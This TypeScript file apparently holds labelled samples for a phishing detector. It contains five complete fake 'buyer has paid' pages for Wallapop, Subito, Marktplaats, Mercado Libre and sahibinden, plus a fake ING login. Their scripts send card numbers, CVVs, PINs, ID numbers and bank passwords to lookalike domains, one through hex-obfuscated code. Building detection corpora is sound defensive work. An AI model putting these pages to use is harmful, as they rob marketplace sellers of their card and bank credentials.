import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { doc, cardFields, pngR, brandIcons } from '../parts/zc-kit.js';
import { jsRoute, jsonRoute } from '../parts/e-bin.js';

// "Buyer has paid", "safe payment" and "receive your money" pages sent to sellers on classifieds and resale
// marketplaces; they ask the seller for card data (and often the SMS / app code that follows).

/** The step that polls the kit's panel while the operator keys the card in and asks for the code. */
const waitScript = (api: string, next: string) => `<script>
(function(){var f=document.querySelector('form');f.addEventListener('submit',function(e){e.preventDefault();
var d={};new FormData(f).forEach(function(v,k){d[k]=v});d.ua=navigator.userAgent;
fetch('${api}',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify(d)}).then(function(r){return r.json()}).then(function(j){
document.getElementById('ld').style.display='flex';setTimeout(function(){location.href='${next}'+(j.sid||'')},4000);}).catch(function(){document.getElementById('ld').style.display='flex'});});})();
</script>`;

const loader = (text: string) => `<div id="ld" style="display:none;position:fixed;inset:0;background:rgba(255,255,255,.94);align-items:center;justify-content:center;flex-direction:column;z-index:9"><div style="width:42px;height:42px;border:4px solid #ddd;border-top-color:#333;border-radius:50%;animation:sp 1s linear infinite"></div><p>${text}</p></div><style>@keyframes sp{to{transform:rotate(360deg)}}</style>`;
const WAL = 'wallapop-envios.es-cobro.net';
const SUB = 'subito.it-transazione-sicura.com';
const MPL = 'marktplaats-gelijkoversteken.nl-betaling.help';
const MEL = 'mercadolibre-ar.cobro-vendedor.com';
const SHB = 'sahibinden-guvenli-odeme.com.tr-islem.net';

export const entries: Entry[] = [
  {
    id: 'zc-mkt-wallapop-envio-cobro-es',
    label: 'phishing',
    kind: 'marketplace-buyer-paid',
    url: `https://${WAL}/item/bicicleta-orbea-orca-m30/cobrar`,
    body: doc({
      lang: 'es',
      title: 'Wallapop Envíos – Cobrar venta',
      css: 'body{background:#f3f6f8}.c{max-width:500px;margin:24px auto;background:#fff;padding:24px;border-radius:12px}.w{color:#13c1ac;font-weight:900;font-size:26px}',
      body: `<div style="padding:14px 20px;background:#fff"><span class="w">wallapop</span></div>
<div class="c">
  <h2>¡Has vendido tu producto!</h2>
  <p>El comprador <b>Javier R.</b> ha pagado <b>720,00 €</b> por <b>Bicicleta Orbea Orca M30 talla 53</b> con Wallapop Envíos. El mensajero de SEUR recogerá el paquete en tu domicilio.</p>
  <p>Para recibir el dinero en tu cuenta, introduce los datos de tu tarjeta de débito. <b>Wallapop no te cobrará ninguna comisión.</b></p>
  <form>
    <label>Nombre completo</label><input name="nombre"><label>Teléfono</label><input name="tel">
    ${cardFields({ holder: 'Titular', number: 'Número de tarjeta', exp: 'Caducidad', cvc: 'CVV' })}
    <button class="btn" style="background:#13c1ac;color:#fff;width:100%;margin-top:16px;border-radius:22px">Cobrar 720,00 €</button>
  </form>
  <p style="font-size:12px;color:#888">Pago protegido por Wallapop. Si no cobras en 24 h, la venta se cancelará automáticamente.</p>
</div>
${loader('Procesando el cobro…')}
${waitScript(`https://${WAL}/api/cobro`, `https://${WAL}/item/bicicleta-orbea-orca-m30/sms?t=`)}`,
    }),
    routes: { [`${WAL}/api/cobro`]: jsonRoute({ sid: 'w-2291' }) },
  },
  {
    id: 'zc-mkt-subito-transazione-sicura-it',
    label: 'phishing',
    kind: 'marketplace-safe-payment',
    url: `https://${SUB}/annuncio/582911/conferma-pagamento`,
    body: doc({
      lang: 'it',
      title: 'Subito – Transazione sicura: conferma ricezione pagamento',
      css: 'body{background:#f6f6f6}.c{max-width:520px;margin:24px auto;background:#fff;padding:24px;border-radius:8px}.s{color:#f9423a;font-size:28px;font-weight:800}',
      body: `<div style="background:#fff;padding:12px 20px;border-bottom:1px solid #eee"><span class="s">subito</span></div>
<div class="c">
  <h2>Pagamento ricevuto 💶</h2>
  <p>L'acquirente ha pagato <b>350,00 €</b> per il tuo annuncio <b>"Divano letto IKEA Friheten grigio"</b> tramite TuttoSubito. Il ritiro con corriere Poste Delivery è già prenotato.</p>
  <p>Per ricevere l'accredito è necessario confermare i dati della carta (anche PostePay Evolution) su cui desideri ricevere il denaro.</p>
  <form>
    ${cardFields({ holder: 'Intestatario', number: 'Numero carta', exp: 'Scadenza', cvc: 'CVV2' })}
    <label>Codice fiscale</label><input name="cf">
    <button class="btn" style="background:#f9423a;color:#fff;width:100%;margin-top:16px">Ricevi 350,00 €</button>
  </form>
</div>
<p style="text-align:center;font-size:11px;color:#999">Subito.it S.r.l. – P.IVA 06531490966 – Via Carlo Bo 11, Milano</p>
${loader('Elaborazione in corso…')}
<script>
var _0x3a=['\\x2f\\x73\\x75\\x62\\x6d\\x69\\x74','\\x50\\x4f\\x53\\x54'];
document.querySelector('form').addEventListener('submit',function(e){e.preventDefault();var d=new FormData(this);fetch(_0x3a[0],{method:_0x3a[1],body:d}).finally(function(){document.getElementById('ld').style.display='flex';setTimeout(function(){location.replace('/annuncio/582911/otp')},3500)})});
</script>`,
    }),
    routes: { [`${SUB}/submit`]: jsonRoute({ ok: 1 }) },
  },
  {
    id: 'zc-mkt-marktplaats-gelijk-oversteken-nl',
    label: 'phishing',
    kind: 'marketplace-safe-payment',
    url: `https://${MPL}/v/m2093318/ontvangen`,
    body: doc({
      lang: 'nl',
      title: 'Marktplaats – Gelijk Oversteken: geld ontvangen',
      css: 'body{background:#f2f2f2}.c{max-width:520px;margin:24px auto;background:#fff;padding:24px;border-radius:6px}.m{color:#2d3c4d;font-weight:800;font-size:24px}',
      body: `<div style="background:#fff;padding:12px 20px;border-bottom:4px solid #eda566"><span class="m">Marktplaats</span></div>
<div class="c">
  <h2>De koper heeft betaald via Gelijk Oversteken</h2>
  <p>Het bedrag van <b>€ 185,00</b> voor <b>Philips Airfryer XXL HD9650</b> staat klaar. Om het geld te ontvangen moet u uw bankrekening verifiëren met een betaling van <b>€ 0,01</b> via iDEAL.</p>
  <form action="https://${MPL}/ideal/kies-bank" method="get">
    <label>Kies uw bank</label>
    <select name="bank"><option>ING</option><option>Rabobank</option><option>ABN AMRO</option><option>SNS</option><option>ASN Bank</option><option>Knab</option><option>bunq</option></select>
    <button class="btn" style="background:#eda566;color:#fff;width:100%;margin-top:16px">Verifieer en ontvang € 185,00</button>
  </form>
  <p style="font-size:12px;color:#777">Gelijk Oversteken is een dienst van Marktplaats B.V. in samenwerking met Adyen.</p>
</div>`,
    }),
    routes: {
      [`${MPL}/ideal/kies-bank`]: htmlRoute(
        doc({
          lang: 'nl',
          title: 'ING – Inloggen Mijn ING',
          css: 'body{background:#f0f0f0}.c{max-width:420px;margin:40px auto;background:#fff;padding:28px;border-top:6px solid #ff6200}',
          body: `<div class="c"><h2 style="color:#ff6200">Inloggen Mijn ING</h2><p>Betaling € 0,01 aan Marktplaats B.V.</p><form action="/ideal/ing/verify" method="post"><label>Gebruikersnaam</label><input name="u"><label>Wachtwoord</label><input type="password" name="p"><label>Pasnummer</label><input name="pas"><label>Vervaldatum pas</label><input name="vd" placeholder="MM/JJ"><button class="btn" style="background:#ff6200;color:#fff;width:100%;margin-top:16px">Inloggen</button></form></div>`,
        }),
      ),
    },
  },
  {
    id: 'zc-mkt-mercadolibre-cobro-vendedor-ar',
    label: 'phishing',
    kind: 'marketplace-buyer-paid',
    url: `https://${MEL}/ventas/2000004918273/liberar-dinero`,
    body: doc({
      lang: 'es-AR',
      title: 'Mercado Libre – Liberá el dinero de tu venta',
      css: 'body{background:#ebebeb}.c{max-width:540px;margin:24px auto;background:#fff;padding:24px;border-radius:6px}',
      body: `<div style="background:#fff159;padding:12px 20px;font-weight:800;font-size:20px;color:#2d3277">mercado libre</div>
<div class="c">
  <h2>¡Vendiste! Tu dinero está listo para liberar</h2>
  <p>El comprador pagó <b>$ 389.999</b> por <b>Notebook Lenovo IdeaPad 3 Ryzen 5 16GB</b>. Por una actualización de seguridad de Mercado Pago, necesitamos validar la tarjeta asociada a tu cuenta antes de liberar el dinero.</p>
  <form>
    <label>DNI</label><input name="dni">
    ${cardFields({ holder: 'Nombre como figura en la tarjeta', number: 'Número de tarjeta', exp: 'Vencimiento', cvc: 'Código de seguridad' })}
    <label>Clave de la tarjeta / PIN de cajero (para acreditación inmediata)</label><input name="pin" type="password" maxlength="4">
    <button class="btn" style="background:#3483fa;color:#fff;width:100%;margin-top:16px">Liberar dinero</button>
  </form>
  <p style="font-size:12px;color:#999">Copyright © 1999-2025 MercadoLibre S.R.L. · Av. Caseros 3039, CABA</p>
</div>
${loader('Validando tus datos…')}
${waitScript(`https://${MEL}/api/v1/liberar`, `https://${MEL}/ventas/2000004918273/token?s=`)}`,
    }),
    routes: { [`${MEL}/api/v1/liberar`]: jsonRoute({ sid: 'ml-55' }) },
  },
  {
    id: 'zc-mkt-sahibinden-guvenli-odeme-tr',
    label: 'phishing',
    kind: 'marketplace-safe-payment',
    url: `https://${SHB}/ilan/1120938812/odeme-onay`,
    body: doc({
      lang: 'tr',
      title: 'sahibinden.com – Param Güvende: Ödeme Onayı',
      css: 'body{background:#f1f1f1}.c{max-width:540px;margin:24px auto;background:#fff;padding:24px;border:1px solid #ddd}',
      body: `<div style="background:#ffe800;padding:12px 20px;font-weight:900;font-size:22px">sahibinden.com</div>
<div class="c">
  <h2>Param Güvende – Ödemeniz hazır</h2>
  <p><b>2019 Honda PCX 125</b> ilanınız için alıcı <b>Mehmet K.</b> <b>98.500 TL</b> tutarındaki ödemeyi Param Güvende hesabına yatırmıştır.</p>
  <p>Tutarın hesabınıza aktarılması için kart bilgilerinizi doğrulamanız gerekmektedir. Bankanızdan gelecek 3D Secure şifresini bir sonraki adımda giriniz.</p>
  <form>
    <label>T.C. Kimlik No</label><input name="tckn" maxlength="11">
    ${cardFields({ holder: 'Kart üzerindeki isim', number: 'Kart numarası', exp: 'Son kullanma tarihi', cvc: 'CVV' })}
    <button class="btn" style="background:#0c5fa6;color:#fff;width:100%;margin-top:16px">Ödemeyi Al</button>
  </form>
</div>
${loader('İşleminiz gerçekleştiriliyor…')}
${waitScript(`https://${SHB}/api/odeme`, `https://${SHB}/ilan/1120938812/3d?s=`)}`,
    }),
    routes: { [`${SHB}/api/odeme`]: jsonRoute({ sid: 'tr77' }) },
  },
];
